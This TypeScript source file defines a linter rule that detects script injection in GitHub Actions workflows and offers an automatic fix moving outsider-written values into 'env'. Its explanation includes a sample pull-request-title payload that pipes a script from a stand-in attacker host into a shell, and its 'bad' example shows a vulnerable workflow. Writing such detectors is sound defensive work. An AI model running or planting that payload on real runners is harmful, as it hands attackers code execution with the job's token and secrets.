import { insertKey, nodeAt } from '../../edits/yaml.js';
import { CallerInput, type Handover, ScriptExpression } from '../../facts/delivery.js';
import type { Document } from '../../model/document.js';
import type { Fact } from '../../model/fact.js';
import type { Fix, TextEdit } from '../../model/finding.js';
import { code, fix, rule } from '../../model/rule.js';

type Given = Fact<NonNullable<(typeof CallerInput)['of']>>;

export const scriptInjection = rule({
  id: 'ci/script-injection',
  shape: 'present',
  severity: 'error',
  title: 'Text of outsiders becomes part of a script',
  message: {
    script: "Whoever writes '{context}' writes commands of this script: it is put in before the shell reads it. Pass it in 'env' instead.",
    code: "Whoever writes '{context}' writes code of '{sink}': it is put in before that is read. Pass it in 'env' instead.",
    event:
      "'{context}' holds texts of outsiders, and they are put into '{sink}' before it is read: a quote in them ends yours. Pass it in 'env' instead.",
    caller:
      "Whatever a caller gives as '{context}' is put into '{sink}' before it is read, a pull request's title too. Pass it in 'env' instead.",
    called:
      "'{context}' is put into '{sink}' before it is read, and a workflow here hands over '{source}', which outsiders write. Pass it in 'env' instead.",
  },
  holds: 'Nothing that outsiders write becomes part of a script',
  why: `A branch or a pull request's title such as \`"; curl evil.example | sh; "\` then runs on the runner, with the job's token and secrets.
    Anyone with an account can open one.`,
  references: ['https://docs.github.com/actions/concepts/security/script-injections', 'https://cwe.mitre.org/data/definitions/94.html'],
  security: 9,
  about: ScriptExpression,
  reads: [CallerInput],

  *check(expression, { document, everywhere, problem }) {
    const { author, context, sink, handover, input, path, triggers } = expression;
    const fixes = handedOver(document, handover);
    const place = { at: expression, fixes, subject: context };
    if (author === 'caller' && input !== undefined) {
      const callers = everywhere(CallerInput);
      const own = callers.filter(({ callee }) => callee === path);
      const source = outside(callers, path, input, 0);
      if (source !== undefined) yield problem({ ...place, say: 'called', words: { context, sink, source } });
      // Who calls it is known, and hands over nothing of outsiders.
      else if (own.length === 0) yield problem({ ...place, say: 'caller', words: { context, sink }, severity: 'warning' });
      return;
    }
    // A fork's pull request gets a token that can only read, and no secrets.
    const severity =
      triggers.length > 0 && triggers.every((trigger) => trigger === 'pull_request') ? ('warning' as const) : ('error' as const);
    if (author === 'event') yield problem({ ...place, say: 'event', words: { context, sink }, severity: 'warning' });
    else if (sink === 'script') yield problem({ ...place, say: 'script', words: { context }, severity });
    else yield problem({ ...place, say: 'code', words: { context, sink }, severity });
  },

  examples: [
    {
      file: '.github/workflows/greet.yml',
      bad: code`
        on: issues
        permissions:
          issues: write
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - run: echo "New issue ${'$'}{{ github.event.issue.title }}"
      `,
      good: code`
        on: issues
        permissions:
          issues: write
        jobs:
          greet:
            runs-on: ubuntu-latest
            steps:
              - env:
                  ISSUE_TITLE: ${'$'}{{ github.event.issue.title }}
                run: echo "New issue $ISSUE_TITLE"
      `,
    },
  ],
});

const DEEPEST = 5;

/** What of outsiders is handed to an input, by a caller or a caller's caller. */
function outside(callers: readonly Given[], path: string, input: string, depth: number): string | undefined {
  if (depth > DEEPEST) return undefined;
  for (const given of callers) {
    if (given.callee !== path || given.input !== input) continue;
    if (given.author) return given.context;
    const through = given.passes && outside(callers, given.passes.path, given.passes.input, depth + 1);
    if (through !== undefined) return through;
  }
  return undefined;
}

/** The expression in the step's environment, and the variable in its place. */
function handedOver(document: Document, handover: Handover | undefined): readonly Fix[] {
  if (!handover) return [];
  const { variable, span, becomes, step, known, expression } = handover;
  const added = known ? [] : variableIn(document, step, variable, expression);
  return fix(`Pass it as '${variable}' in 'env'`, added && [...added, { span, text: becomes }]);
}

function variableIn(
  document: Document,
  step: readonly (string | number)[],
  variable: string,
  expression: string,
): readonly TextEdit[] | undefined {
  const node = nodeAt(document, step);
  const environment = node.get('env');
  if (environment) return insertKey(document, environment, variable, expression);
  const before = node.keys.find((key) => key === 'run' || key === 'with');
  return insertKey(document, node, 'env', { [variable]: expression }, before === undefined ? undefined : { before });
}
